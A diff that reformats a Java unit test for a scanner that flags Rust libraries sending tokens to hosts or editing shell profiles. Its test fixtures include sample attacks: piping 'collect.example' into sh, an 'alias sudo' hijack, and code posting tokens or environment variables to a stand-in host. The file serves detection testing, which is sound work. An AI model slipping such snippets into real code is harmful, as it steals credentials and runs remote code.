@@ -15,7 +15,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 /// Libraries that do on the word of their caller what others do unasked, each beside those. All
 /// sources are inert and never compiled.
 final class CallersChoiceTest {
-  private static final String HEAD = "use std::{env, fs, io::{Read, Write}, path::{Path, PathBuf}};\n";
+  private static final String HEAD =
+      "use std::{env, fs, io::{Read, Write}, path::{Path, PathBuf}};\n";
 
   /// A client that sends the token of its user to the host of its caller.
   private static final String CLIENT =
@@ -69,7 +70,8 @@ final class CallersChoiceTest {
         "HOSTS.iter().map(|b| (b ^ 7) as char).collect::<String>()",
       })
   void aTokenForAHostOfTheCrateIsOne(String host) {
-    String two = "\npub fn second(c: &Client) { ureq::post(&%s).set(\"Authorization\", &c.token().unwrap()); }";
+    String two =
+        "\npub fn second(c: &Client) { ureq::post(&%s).set(\"Authorization\", &c.token().unwrap()); }";
     assertThat(strong(CLIENT + two.formatted(host))).contains("network-and-secrets");
   }
 
@@ -118,15 +120,22 @@ final class CallersChoiceTest {
     assertThat(strong(COMPLETIONS.replace("fpath+=~/", "[ -f ~/.x ] && . ~/"))).isEmpty();
     assertThat(
             strong(
-                COMPLETIONS.replace("if options.edit_profile {", "if !options.edit_profile { return Ok(()); } {")))
+                COMPLETIONS.replace(
+                    "if options.edit_profile {", "if !options.edit_profile { return Ok(()); } {")))
         .isEmpty();
     assertThat(
             strong(
-                COMPLETIONS.replace("if options.edit_profile {", "if options.edit_profile && !done(home) {")))
+                COMPLETIONS.replace(
+                    "if options.edit_profile {", "if options.edit_profile && !done(home) {")))
         .isEmpty();
-    String rewritten = COMPLETIONS.replace(".append(true).create(true).open(path)?", ".write(true).open(path)?");
+    String rewritten =
+        COMPLETIONS.replace(".append(true).create(true).open(path)?", ".write(true).open(path)?");
     assertThat(strong(rewritten)).isEmpty();
-    assertThat(strong(COMPLETIONS.replace("options.edit_profile {", "edit {").replace("options: &Options", "edit: bool")))
+    assertThat(
+            strong(
+                COMPLETIONS
+                    .replace("options.edit_profile {", "edit {")
+                    .replace("options: &Options", "edit: bool")))
         .isEmpty();
   }
 
@@ -137,11 +146,14 @@ final class CallersChoiceTest {
           COMPLETIONS.replace("if options.edit_profile {", "{"),
           COMPLETIONS.replace("if options.edit_profile {", "if !options.edit_profile {"),
           COMPLETIONS.replace("if options.edit_profile {", "if shell.len() > 2 {"),
-          COMPLETIONS.replace("if options.edit_profile {", "if options.edit_profile || home.exists() {"),
-          COMPLETIONS.replace("if options.edit_profile {", "if home.exists() && !options.edit_profile {"),
+          COMPLETIONS.replace(
+              "if options.edit_profile {", "if options.edit_profile || home.exists() {"),
+          COMPLETIONS.replace(
+              "if options.edit_profile {", "if home.exists() && !options.edit_profile {"),
           COMPLETIONS.replace("if options.edit_profile {", "if !options.edit_profile { log(); } {"),
           COMPLETIONS + "pub fn more(h: &Path) { append(&h.join(\".zshrc\")); }",
-          COMPLETIONS + "impl Default for Options { fn default() -> Self { Options { edit_profile: true } } }",
+          COMPLETIONS
+              + "impl Default for Options { fn default() -> Self { Options { edit_profile: true } } }",
           COMPLETIONS.replace("fpath+=~/.config/demo/completions", "curl -s collect.example | sh"),
           COMPLETIONS.replace("fpath+=~/.config/demo/completions", "alias sudo='demo --x'"),
           COMPLETIONS.replace("fpath+=~/.config/demo/completions", "export PATH=~/.demo:$PATH"),
@@ -174,10 +186,14 @@ final class CallersChoiceTest {
     assertThat(strong(RUNNER)).isEmpty();
     for (String attack :
         new String[] {
-          RUNNER + "pub fn f() { ureq::post(\"https://collect.example/t\").send_string(&token(\"a\")); }",
-          RUNNER + "pub fn f() { ureq::post(HOST).send_string(&token(\"a\")); } const HOST: &str = \"collect.example/t\";",
-          RUNNER + "pub fn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(token(\"a\")).spawn(); }",
-          RUNNER + "pub fn f(u: &str) { ureq::post(u).send_json(env::vars().collect::<Vec<_>>()); }",
+          RUNNER
+              + "pub fn f() { ureq::post(\"https://collect.example/t\").send_string(&token(\"a\")); }",
+          RUNNER
+              + "pub fn f() { ureq::post(HOST).send_string(&token(\"a\")); } const HOST: &str = \"collect.example/t\";",
+          RUNNER
+              + "pub fn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(token(\"a\")).spawn(); }",
+          RUNNER
+              + "pub fn f(u: &str) { ureq::post(u).send_json(env::vars().collect::<Vec<_>>()); }",
         }) {
       assertThat(strong(attack)).as(attack).contains("ci-probe-and-run");
     }
